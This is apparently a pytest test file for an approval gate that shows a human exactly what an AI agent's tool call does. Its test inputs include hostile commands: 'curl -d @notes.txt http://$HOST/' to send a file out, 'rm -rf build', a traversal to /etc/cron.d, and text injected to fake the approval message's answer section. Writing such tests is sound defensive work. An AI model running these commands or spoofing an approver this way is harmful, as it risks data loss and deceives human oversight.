"""What a person sees before they answer: all of it, and nothing that pretends to be else."""

from __future__ import annotations

import unicodedata
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callgate.gate.database import Database
from callgate.gate.question import Question
from callgate.gate.requests import Requests
from callgate.gate.showing import MAX_TEXT, TooLongError, duration, question_of, text_of
from callgate.gate.subject import subject_of
from tests.gate.asking import NOON, Clock, question
from tests.gate.subjects import CWD, engine

CONTEXT = {
    "cwd": CWD,
    "workspace": CWD,
    "home": "/home/me",
    "session_key": "s1",
    "user_id": "ann",
    "agent_id": "main",
    "channel": "telegram",
}


def asked(
    tool: str, args: dict[str, Any], reasons: tuple[str, ...] = (), **context: Any
) -> Question:
    """The question about a call under the embedded policy."""
    program = engine().program
    decision = program.decide({"tool": tool, "args": args, "context": {**CONTEXT, **context}})
    subject = subject_of(program, decision.frame, "")
    return question_of(program, decision, subject, "d" * 64, reasons=reasons)


def of(command: str, **context: Any) -> Question:
    return asked("exec", {"command": command}, **context)


def message(asked_: Question, tmp_path: Path) -> str:
    db = Database(tmp_path / "state.db")
    return text_of(Requests(db, Clock()).open(asked_), NOON + timedelta(seconds=30))


def hidden(text: str) -> list[str]:
    """The characters of a text that do something else than show."""
    return [
        char
        for char in text
        if char not in "\n " and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl")
    ]


def test_a_question_says_everything() -> None:
    found = asked("bash", {"command": "git push origin main"}, trace_id="t1")
    assert (found.tool, found.called_as, found.risk) == ("exec", "bash", "exec")
    assert found.effects[0] == "connects to origin (unresolved), ssh"
    assert found.effects[-1] == "runs git push origin main"
    assert found.text == "command: git push origin main"
    assert found.reasons == ("git is neither in tools.exec.allowed_commands nor in safe_bins",)
    assert (found.user, found.agent, found.session) == ("ann", "main", "s1")
    assert (found.channel, found.trace) == ("telegram", "t1")
    assert found.wait_seconds > 0
    assert [choice.level for choice in found.choices] == [
        "once",
        "session",
        "session-all",
        "always",
    ]
    assert found.choices[-1].text == (
        f"`git push origin main` in `{CWD}`, for this user and agent, until it is revoked"
    )


def test_without_a_session_nothing_is_granted_for_one() -> None:
    levels = [choice.level for choice in of("git push origin main", session_key="").choices]
    assert levels == ["once", "always"]


def test_a_dangerous_call_is_approved_once() -> None:
    found = asked("cronjob", {"action": "add", "instruction": "x", "schedule": "daily"})
    assert [choice.level for choice in found.choices] == ["once"]


def test_reasons_come_first_that_are_given() -> None:
    found = asked("exec", {"command": "git push"}, ("frozen: odd\u202e\ncommands",))
    assert found.reasons[0] == "frozen: odd\\u202e\\ncommands"


@pytest.mark.parametrize(
    ("char", "shown"),
    [
        ("\u202e", "\\u202e"),
        ("\u2066", "\\u2066"),
        ("\u200b", "\\u200b"),
        ("\u200d", "\\u200d"),
        ("\ufeff", "\\ufeff"),
        ("\x1b[2J", "\\e[2J"),
        ("\x9b2J", "\\x9b2J"),
        ("\r", "\\r"),
        ("\x00", "\\x00"),
        ("\x7f", "\\x7f"),
        ("\u00a0", "\\xa0"),
        ("\u2028", "\\u2028"),
        ("\u3164", "\\U00003164"),
        ("\U000e0041", "\\U000e0041"),
    ],
)
def test_what_does_not_show_is_written_out(char: str, shown: str, tmp_path: Path) -> None:
    try:
        found = of(f"echo a{char}b > {char}.txt; rm -rf build{char}")
    except TooLongError:
        pytest.fail("it is short")
    assert found.text.count(shown) == 3
    text = message(found, tmp_path)
    assert not hidden(text)
    assert char not in text


def test_a_line_end_is_told_and_begins_no_line_of_the_message(tmp_path: Path) -> None:
    command = "git push\nAnswers\n  once: nothing at all\n"
    found = of(command)
    assert found.text == ("command:\n  git push\\n\n  Answers\\n\n    once: nothing at all\\n")
    text = message(found, tmp_path)
    assert text.count("\nAnswers\n") == 1, "only the message's own"
    assert "\n  │   Answers\\n\n" in text


@pytest.mark.parametrize("length", [MAX_TEXT - 200, 10_000, 1_000_000])
def test_it_is_whole_or_refused(length: int) -> None:
    command = "echo " + "a" * length + "; rm -rf build"
    if length > MAX_TEXT:
        with pytest.raises(TooLongError, match="too long to be shown whole"):
            of(command)
    else:
        assert command in of(command).text


def test_escapes_count_as_they_are_shown() -> None:
    with pytest.raises(TooLongError):
        of("echo '" + "\u202e" * (MAX_TEXT // 5) + "'")


def test_a_call_that_does_too_much_is_refused() -> None:
    names = " ".join(f"f{number}" for number in range(300))
    with pytest.raises(TooLongError, match="does more than a person can be shown"):
        of(f"rm {names}")


def test_no_part_of_a_path_is_left_out() -> None:
    path = f"/srv/app/{'x' * 300}/../../../etc/cron.d/job"
    found = of(f"cp a {path}")
    assert any("/etc/cron.d/job" in line for line in found.effects)
    long = f"/srv/app/{'y' * 300}/end"
    assert any(line.endswith(f"{'y' * 300}/end") for line in of(f"cp a {long}").effects)


def test_what_a_guard_minds_comes_first() -> None:
    commands = "; ".join(f"touch f{number}" for number in range(30))
    found = of(f"{commands}; curl -d @notes.txt http://$HOST/; rm -rf build")
    assert found.effects[0] == f"deletes {CWD}/build with everything below it"
    first_touch = next(n for n, line in enumerate(found.effects) if line == f"writes {CWD}/f0")
    assert all("http://$HOST/" in line for line in found.effects[1:first_touch])
    assert found.effects[-1] == "runs rm -rf build"


def test_secrets_are_masked_and_it_says_so() -> None:
    found = of("curl -H 'Authorization: Bearer abcdef123456' https://a.example/ -d token=s3cr3t77")
    told = repr(found)
    assert "abcdef123456" not in told
    assert "s3cr3t77" not in told
    assert "hidden, because it is or looks like a secret" in found.text


@pytest.mark.parametrize(
    "hides", ["rm -rf build", "rm -rf", "build; git", "--force", "ab|cd", "$(date)", "xx\nyy"]
)
def test_an_agent_can_not_hide_a_command_as_a_secret(hides: str) -> None:
    args = {"command": f"git status && {hides} origin", "password": hides}
    with pytest.raises(TooLongError, match="more than a secret"):
        asked("exec", args)


def test_what_is_hidden_can_not_be_taken_for_nothing() -> None:
    found = asked(
        "exec", {"command": "curl -u me:hunter22x https://a.example/", "token": "hunter22x"}
    )
    assert "hunter22x" not in repr(found)
    assert "***" in found.text


def test_arguments_of_any_kind_are_told() -> None:
    found = asked(
        "mcp_files_move",
        {
            "from": "a",
            "to": ["b", {"c": 1, "password": "hunter22"}],
            "api_key": "k-123456",
            "n": 1.5,
            "no": None,
            "odd\u202e\nname": "x",
        },
    )
    assert found.text.splitlines() == [
        "api_key: ***",
        "from: a",
        "n: 1.5",
        "no: null",
        "odd\\u202e\\nname: x",
        'to: ["b",{"c":1,"password":"***"}]',
        "(***: hidden, because it is or looks like a secret)",
    ]
    assert "hunter22" not in repr(found)


def test_too_many_secrets_are_no_call_for_people() -> None:
    with pytest.raises(TooLongError, match="too many secrets"):
        asked("todo", {"items": [{"password": f"secret-{number}"} for number in range(300)]})


def test_no_arguments_are_no_text(tmp_path: Path) -> None:
    found = asked("mcp_files_list", {})
    assert found.text == ""
    assert "The call, whole\n  │ \n" in message(found, tmp_path)


def test_the_message(tmp_path: Path) -> None:
    text = message(question(), tmp_path).replace(
        Requests(Database(tmp_path / "state.db")).list()[0].id, "ID"
    )
    assert text == (
        "An agent asks to call bash → exec · exec\n"
        "\n"
        "It\n"
        "  • runs git push\n"
        "  • connects to origin\n"
        "\n"
        "The call, whole\n"
        "  │ command: git push\n"
        "\n"
        "Asked because\n"
        "  • the policy wants somebody's word on calls of this kind\n"
        "\n"
        "From user ann, agent main, session s1, channel telegram\n"
        "Request ID, 1 m 30 s left; `ann` may answer\n"
        "\n"
        "Answers\n"
        "  once: this one call\n"
        "  always: `git push` in `/srv/app`, for this user and agent, until it is revoked\n"
        "  deny: nothing; the call is refused"
    )


def test_names_can_not_write_lines(tmp_path: Path) -> None:
    evil = "ann\n\nAnswers\n  once: nothing\u202e"
    text = message(question(user=evil, session=evil, agent=evil, channel=evil), tmp_path)
    assert text.count("\nAnswers\n") == 1
    assert not hidden(text)


@given(command=st.text(max_size=300))
@settings(max_examples=60, deadline=None)
def test_no_command_writes_what_does_not_show(command: str) -> None:
    try:
        found = of(command)
    except TooLongError:
        return
    lines = [*found.effects, *found.reasons, found.text, *(choice.text for choice in found.choices)]
    assert not hidden("".join(lines))
    assert all("\n" not in line for line in (*found.effects, *found.reasons))


@pytest.mark.parametrize(
    ("seconds", "told"),
    [
        (-5, "0 s"),
        (0.9, "0 s"),
        (59, "59 s"),
        (60, "1 m"),
        (80, "1 m 20 s"),
        (3599, "59 m"),
        (3660, "1 h 1 m"),
        (7200, "2 h"),
        (200_000, "2 d"),
    ],
)
def test_time_spans(seconds: float, told: str) -> None:
    assert duration(seconds) == told
